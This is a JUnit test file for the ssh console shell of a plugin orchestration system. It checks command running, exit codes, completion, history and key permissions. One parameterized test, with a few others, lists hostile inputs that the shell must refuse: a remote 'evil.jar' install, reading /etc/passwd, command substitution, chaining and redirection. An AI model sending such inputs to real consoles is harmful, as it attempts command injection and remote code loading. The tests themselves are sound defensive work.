package org.stagedpipe.console;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.stagedpipe.console.command.ShellAccess;
import org.stagedpipe.protocol.v1.PublishedVersion;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CountDownLatch;

/// The console in a container, reached by ssh as persons and scripts reach it.
class ShellTest {

    private static final String UP = "\u001bOA";
    private static final String CTRL_C = "\u0003";

    @TempDir static Path folder;

    private static TestOverseer overseer;
    private static ShellContainer container;

    @BeforeAll
    static void start() throws Exception {
        overseer = new TestOverseer();
        container =
                ShellContainer.start(folder, ShellContainer.overseer(overseer.endpoint(), false));
        String told = container.configure(Map.of());
        assertTrue(told.matches("ready: ssh on 127\\.0\\.0\\.1:[0-9]+"), told);
    }

    @AfterAll
    static void stop() throws Exception {
        container.close();
        assertFalse(Files.exists(container.folder().resolve(ShellAccess.ADDRESS)));
        overseer.close();
    }

    @Test
    void runsACommandAsTheCommandLineDoes() {
        Run run = container.shell("--", "node:list");
        assertEquals(0, run.exitCode(), run.err());
        assertEquals(Run.of(overseer.endpoint(), "node", "list").out(), run.out());
    }

    @Test
    void passesOptionsAndWordsWithBlanks() throws Exception {
        Run run = container.shell("--", "plugin:list", "-o", "json");
        assertEquals("birdstrikes", run.json().get(0).get("name").asText());
        String reason = "it's \"$HOME\" or 50 % \\ of it";
        Run cancel =
                container.shell("--", "group:cancel", TestOverseer.GROUP_A, "--reason=" + reason);
        assertEquals(0, cancel.exitCode(), cancel.err());
        assertEquals(reason, overseer.cancelled.getLast().getReason());
        assertEquals( // what stands behind the key in authorized_keys
                "operator", overseer.cancelled.getLast().getOperator());
    }

    @Test
    void tellsTheExitCodeOfTheCommand() {
        Run unknown = container.shell("--", "plugin:describe", "birdstrike");
        assertEquals(4, unknown.exitCode());
        assertEquals("", unknown.out());
        assertEquals(
                "stagedpipe: plugin \"birdstrike\": there is no such plugin; did you mean"
                        + " birdstrikes?\n",
                unknown.err());
        assertEquals(2, container.shell("--", "plugin:describe").exitCode());
        assertEquals(0, container.shell("plugin:describe nothing; plugin:list").exitCode());
        assertEquals(4, container.shell("plugin:list; plugin:describe nothing").exitCode());
        assertEquals(4, container.shell("plugin:describe nothing && plugin:list").exitCode());
    }

    @Test
    void suggestsTheNearestCommand() {
        Run run = container.shell("--", "plugin:lst");
        assertEquals(2, run.exitCode());
        assertEquals(
                "stagedpipe: command \"plugin:lst\": there is no such command; did you mean"
                        + " plugin:list?\n",
                run.err());
    }

    /// With the bundle of Gogo's own commands in the container.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "felix:install http://127.0.0.1:1/evil.jar",
                "felix:lb",
                "lb",
                "stop 0",
                "gogo:eval lb",
                "stagedpipe:help",
                "felix\\:lb",
                "'felix:lb'",
                "'abc' length",
                "\"abc\" getClass",
                "5 toString",
                "$.context bundles",
                "(bundle 0) location",
                "(felix:lb)",
                "{ felix:lb }",
                "[1 2] size",
                "new java.io.File x",
                "source x",
                "x=1",
                ".operator=ann",
                "help = 1",
                "grep =1",
                "> made-by-a-line",
                "node:list > made-by-a-line",
                "node:list 2> made-by-a-line",
                "grep r < /etc/passwd",
                "grep r <<< $(lb)",
                "node:list $(felix:lb)",
                "node:list x$(felix:lb)",
                "node:list 'x'$(felix:lb)",
                "node:list \"$(felix:lb)\"",
                "node:list \"\\\"$(felix:lb)\"",
                "node:list \\\\$(felix:lb)",
                "node:list (felix:lb)",
                "node:list { felix:lb }",
                "node:list [ (felix:lb) ]",
                "node:list x{felix:lb}",
                "node:list \"'$(felix:lb)'\"",
                "node:list \"'\"$(felix:lb)\"'\"",
                "node:list ${.context}",
                "node:list $'a'",
                "node:list %(1+1)",
                "node:list; felix:lb",
                "node:list && felix:lb",
                "node:list || felix:lb",
                "node:list & felix:lb",
                "node:list\nfelix:lb",
                "node:list | felix:lb",
                "felix:lb | grep a",
                "node:list /* ' */; felix:lb",
                "node:list # '\nfelix:lb # '",
            })
    void runsNothingButItsCommands(String line) {
        Run run = container.shell(line);
        assertEquals(2, run.exitCode(), run.out() + run.err());
        assertEquals("", run.out());
        assertTrue(run.err().startsWith("stagedpipe: "), run.err());
        assertFalse(Files.exists(Path.of("made-by-a-line")));
        assertTrue(
                run.err().contains("there is no such command; ")
                        || run.err().contains("(expected: a command and its words;"),
                run.err());
    }

    @Test
    void saysWhichCommandsThereAre() {
        Run run = container.shell("felix:install http://127.0.0.1:1/evil.jar");
        assertTrue(
                run.err()
                        .startsWith(
                                "stagedpipe: command \"felix:install\": there is no such command;"
                                        + " expected: one of audit:"),
                run.err());
        assertEquals(
                "stagedpipe: \">\" (expected: a command and its words; what is in '...' is a"
                        + " word)\n",
                container.shell("node:list > x").err());
    }

    @Test
    void aScriptEndsWithWhatIsNoCommand() {
        Run run = Run.typed(container.defaults(), "node:list\nfelix:lb\nplugin:list\n", "shell");
        assertEquals(2, run.exitCode(), run.err());
        assertTrue(run.out().contains("worker-1"), run.out());
        assertFalse(run.out().contains("birdstrikes"), run.out());
    }

    @Test
    void showsNoFileOfItsMachine(@TempDir Path folder) throws Exception {
        Path secret = Files.writeString(folder.resolve("secret"), "of-the-overseer");
        Run run = container.shell("plugin:describe @" + secret);
        assertEquals(4, run.exitCode(), run.err());
        assertTrue(run.err().contains("plugin \"@" + secret + "\""), run.err());
        run = container.shell("plugin:describe " + folder + "/secre*");
        assertEquals(4, run.exitCode(), run.err());
        assertTrue(run.err().contains("/secre*\""), run.err());
    }

    @Test
    void quotesMakeAnyTextAWord() {
        for (String text :
                List.of("'a $(b) > {c} = \"d\" %(e)'", "\"a = (b) > c\"", "a\\ \\$b\\>c")) {
            Run run = container.shell("plugin:describe " + text);
            assertEquals(4, run.exitCode(), run.err());
            String word = text.startsWith("a") ? "a $b>c" : text.substring(1, text.length() - 1);
            assertTrue(run.err().contains("plugin \"" + word + "\""), run.err());
        }
    }

    @Test
    void runsAScriptUntilALineFails() {
        Run run =
                Run.typed(
                        container.defaults(),
                        "plugin:list -o json\nplugin:describe nothing\nnode:list\n",
                        "shell");
        assertEquals(4, run.exitCode(), run.err());
        assertTrue(run.out().contains("\"birdstrikes\""), run.out());
        assertFalse(run.out().contains("worker-1  "), run.out());
    }

    @Test
    void listsAndExplainsItsCommands() {
        String all = container.shell("help").out();
        Map<String, String> commands =
                Map.of(
                        "plugin",
                        "list describe install update rollback uninstall verify label delete",
                        "library",
                        "list publish delete",
                        "rollout",
                        "list status pause resume abort approve",
                        "node",
                        "list describe cordon drain resume forget",
                        "group",
                        "list describe cancel why dead-letters",
                        "audit",
                        "list");
        commands.forEach((group, names) -> {
            for (String name : names.split(" ")) {
                assertTrue(all.contains(group + ":" + name), group + ":" + name + " in " + all);
            }
        });
        assertTrue(container.shell("help plugin:update").out().contains("--timeout"));
        assertEquals(2, container.shell("help plugin:updat").exitCode());
    }

    @Test
    void completesCommandsAndNames() throws Exception {
        overseer.plugins.computeIfPresent(
                "birdstrikes",
                (name, plugin) ->
                        plugin.toBuilder()
                                .addVersions(
                                        PublishedVersion.newBuilder()
                                                .setPlugin(Samples.version(name, "1.0.1"))
                                                .setDeletedMs(1))
                                .build());
        try (Typist typist = new Typist(ShellAccess.of(folder.resolve("o1")))) {
            typist.types("plugin:desc\t").sees("plugin:describe ");
            typist.types("bird\t").sees("birdstrikes ");
            typist.types("\r").sees("worker-1").sees("o1> ");
            typist.types("plugin:rollback birdstrikes --vers\t").sees("--version ");
            typist.types("1.0\t").sees("1.0.0 ").types(CTRL_C).sees("o1> ");
            typist.types("node:describe wor\t").sees("worker-1 ").types(CTRL_C).sees("o1> ");
            typist.types("group:describe 0a1\t").sees("-000000000001").types(CTRL_C).sees("o1> ");
            typist.types("node:list -o \t").sees("json").types(CTRL_C).sees("o1> ");
        }
    }

    @Test
    void completesRolloutsAndLabels() throws Exception {
        try (Typist typist = new Typist(ShellAccess.of(folder.resolve("o1")))) {
            for (String command : List.of("status", "pause", "resume", "approve", "abort")) {
                typist.types("rollout:" + command + " \t").sees("r1 ").types(CTRL_C).sees("o1> ");
            }
            typist.types("plugin:label birdstrikes st\t").sees("stable ").types("1.0\t");
            typist.sees("1.0.0 ").types(CTRL_C).sees("o1> ");
            typist.types("plugin:rollback birdstrikes --version st\t").sees("stable ");
        }
    }

    @Test
    void coloursWhatAPersonReads() throws Exception {
        String colored = "\u001b[32mready\u001b[0m";
        ShellAccess access = ShellAccess.of(folder.resolve("o1"));
        try (Typist typist = new Typist(access)) {
            typist.types("node:list | grep worker-1\r").sees("127.0.0.1:9420").sees("o1> ");
            typist.types("node:list --no-color\r").sees("127.0.0.1:9420").sees("o1> ");
            assertFalse(typist.raw().contains(colored), typist.raw());
            typist.types("node:list\r").sees("127.0.0.1:9420").sees("o1> ");
            assertTrue(
                    System.getenv("NO_COLOR") != null || typist.raw().contains(colored),
                    typist.raw());
        }
    }

    @Test
    void showsARolloutWhileItGoesOn() throws Exception {
        overseer.looks.set(0);
        try (Typist typist = new Typist(ShellAccess.of(folder.resolve("o1")))) {
            typist.types("rollout:status r1 --watch\r").sees("rollout [##..");
            typist.sees("step 1 of 2 with 10 %").sees("\rrollout [#################..");
            typist.sees("step 2 of 2 with 50 %").sees("1.2.0: done").sees("o1> ");
        }
    }

    @Test
    void ctrlCEndsWhatRuns() throws Exception {
        CountDownLatch held = new CountDownLatch(1);
        overseer.held = Optional.of(held);
        try (Typist typist = new Typist(ShellAccess.of(folder.resolve("o1")))) {
            int before = overseer.waiting.get();
            typist.types("node:list\r").sees("node:list");
            long end = System.nanoTime() + 10_000_000_000L;
            while (overseer.waiting.get() == before && System.nanoTime() < end) {
                Thread.onSpinWait();
            }
            typist.types(CTRL_C).sees("interrupted").sees("o1> ");
            typist.types("exit\r");
            assertEquals(130, typist.exitCode());
        } finally {
            overseer.held = Optional.empty();
            held.countDown();
        }
    }

    /// The shell goes on meanwhile.
    @Test
    void ctrlCLeavesACommandItsLastWords() throws Exception {
        CountDownLatch asked = new CountDownLatch(1);
        CountDownLatch held = new CountDownLatch(1);
        overseer.onChange =
                () -> {
                    asked.countDown();
                    TestOverseer.await(held);
                };
        try (Typist typist = new Typist(ShellAccess.of(folder.resolve("o1")))) {
            typist.types("plugin:delete birdstrikes 1.0.0\r");
            TestOverseer.await(asked);
            typist.types(CTRL_C).sees("the change may go on: see audit list");
            typist.types("node:list\r").sees("127.0.0.1:9420").sees("o1> ");
        } finally {
            overseer.onChange = () -> {};
            held.countDown();
        }
    }

    @Test
    void filtersLines() {
        Run run = container.shell("node:list | grep ^work");
        assertEquals(0, run.exitCode(), run.err());
        assertEquals(1, run.out().lines().count(), run.out());
        assertEquals(1, container.shell("node:list | grep nothing").exitCode());
        assertEquals(2, container.shell("node:list | grep '*'").exitCode());
    }

    @Test
    void remembersWhatWasTyped() throws Exception {
        ShellAccess access = ShellAccess.of(folder.resolve("o1"));
        try (Typist typist = new Typist(access)) {
            typist.types("node:describe worker-1\r").sees("4711").sees("o1> ");
            typist.types("exit\r");
            assertEquals(0, typist.exitCode());
        }
        try (Typist typist = new Typist(access)) {
            typist.types(UP).sees("exit").types(UP).sees("node:describe worker-1");
            typist.types("\r").sees("4711").sees("o1> ");
            typist.types("plugin:describe nothing\r").sees("no such plugin").sees("o1> ");
            typist.types("\u0004");
            assertEquals(4, typist.exitCode());
        }
        assertTrue(
                Files.readString(container.folder().resolve("history")).contains("node:describe"));
    }

    @Test
    void theClientRefusesAnotherHost() throws Exception {
        ShellAccess access = ShellAccess.of(folder.resolve("o1"));
        Run run =
                container.shell(
                        "--ssh",
                        access.ssh().toString(),
                        "--identity",
                        access.identity().toString(),
                        "--host-key",
                        "SHA256:another",
                        "node:list");
        assertEquals(77, run.exitCode());
        assertTrue(run.err().contains("(expected: SHA256:another)"), run.err());
    }

    @Test
    void saysWhereNobodyAnswers() throws Exception {
        Run nobody = container.shell("--ssh", "127.0.0.1:1", "--host-key", "SHA256:x", "node:list");
        assertEquals(3, nobody.exitCode());
        assertTrue(nobody.err().contains("no console answers at 127.0.0.1:1"), nobody.err());
        Run nowhere = Run.of(overseer.endpoint(), "shell", "node:list");
        assertEquals(3, nowhere.exitCode());
        assertTrue(nowhere.err().contains("--ssh"), nowhere.err());
    }

    @Test
    void keepsItsKeysToItsOwner() throws Exception {
        assertEquals("rwx------", permissions(container.folder()));
        for (String secret : List.of("operator_key", "host_key")) {
            assertEquals("rw-------", permissions(container.folder().resolve(secret)));
        }
        assertEquals(
                Files.readString(container.folder().resolve("operator_key.pub")),
                Files.readString(container.folder().resolve("authorized_keys")));
    }

    private static String permissions(Path file) throws Exception {
        return PosixFilePermissions.toString(Files.getPosixFilePermissions(file));
    }
}
